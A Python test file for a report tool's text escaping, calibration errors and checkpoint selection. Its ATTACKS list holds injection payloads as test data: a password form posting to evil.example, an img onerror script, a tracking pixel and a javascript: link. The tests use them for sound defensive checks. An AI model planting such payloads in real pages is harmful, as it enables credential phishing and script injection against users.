"""User text is text (issue 22 item 4, issue 21 item 3): a group value, a column name or a judge's
name reaches the report card's Markdown escaped (no markup, no broken table) and the HTML report
once escaped (never as an element, never double-escaped); and the smaller item 14 defects: a
calibration for another scale says so, a checkpoint being written is not served."""

import json

import pytest

from raft.calibration import Calibration
from raft.files import DataError
from raft.report import build_report, to_markdown
from raft.report_html import to_html
from raft.runs import newest_checkpoint, run_weights
from tests.test_report import _scored

ATTACKS = [
    '<form action="https://evil.example/x" style="position:fixed;inset:0"><input name=password></form>',
    '<img src="https://evil.example/p.png" onerror="window.__pwned=1">',
    "![pixel](https://evil.example/md.png)",
    "[click](javascript:alert(1))",
    "a | b | c",
    "**bold** _it_ `code` # head",
    "1. a numbered line",
    "&lt;already escaped&gt; & more",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_md_text_shows_exactly_the_text(text):
    from raft.text import md_plain, md_text

    out = md_text(text)
    assert "<" not in out and "](" not in out and "|" not in out.replace("\\|", "")
    assert md_plain(out) == text


def test_verbatim_keeps_whitespace_and_escapes():
    from raft.text import verbatim_html

    code = "def f():\n    return '<b>'\n\n1. one\n2. two"
    out = verbatim_html(code)
    assert out.startswith("<pre") and out.endswith("</pre>") and out.count("<") == 2
    assert "    return '&lt;b&gt;'\n\n1. one\n2. two" in out


def test_group_values_and_names_are_escaped_in_the_card_and_once_in_the_html():
    rows = _scored(60)
    for i, row in enumerate(rows):
        row["category"] = ATTACKS[i % len(ATTACKS)]
    report = build_report(rows, by=["category"], names=("<b>judge</b>", "B"))
    card = to_markdown(report)
    assert "<form" not in card and "<img" not in card and "![" not in card and "](" not in card
    lines = card.splitlines()
    header = next(line for line in lines if line.startswith("| category | n |"))
    group_rows = [line for line in lines if line.startswith("| ") and "evil" in line]
    assert group_rows and all(  # an escaped | stays in its cell: the table keeps its columns
        line.replace("\\|", "").count("|") == header.count("|") for line in group_rows
    )
    page = to_html(report, card)
    assert "<form" not in page and '<img src="https' not in page
    assert "&lt;form action=&quot;https://evil.example/x&quot;" in page  # once escaped, readable
    assert "&amp;lt;already escaped&amp;gt; &amp; more" in page  # the value's own entity text, shown as typed
    assert "&amp;amp;" not in page


def test_a_calibration_for_another_scale_says_so():
    rows = _scored(40)
    wrong = Calibration(1.0, 0.5, 0.9, [1, 3])
    with pytest.raises(DataError, match=r"calibration is for the scale 1\.\.3 \(3 levels\).*5 levels") as err:
        build_report(rows, calibration=wrong)
    assert "operands" not in str(err.value) and "matmul" not in str(err.value)


def test_a_checkpoint_still_being_written_is_not_served(tmp_path):
    done = tmp_path / "checkpoints" / "checkpoint-10"
    writing = tmp_path / "checkpoints" / "checkpoint-20"
    for folder in (done, writing):
        folder.mkdir(parents=True)
        (folder / "adapter_model.safetensors").write_bytes(b"")
    (done / "adapter_config.json").write_text("{}")
    (done / "trainer_state.json").write_text(json.dumps({"global_step": 10}))  # what the Trainer writes last
    assert newest_checkpoint(tmp_path) == (10, done)
    assert run_weights(tmp_path, {"weights": "adapter"}).folder == done
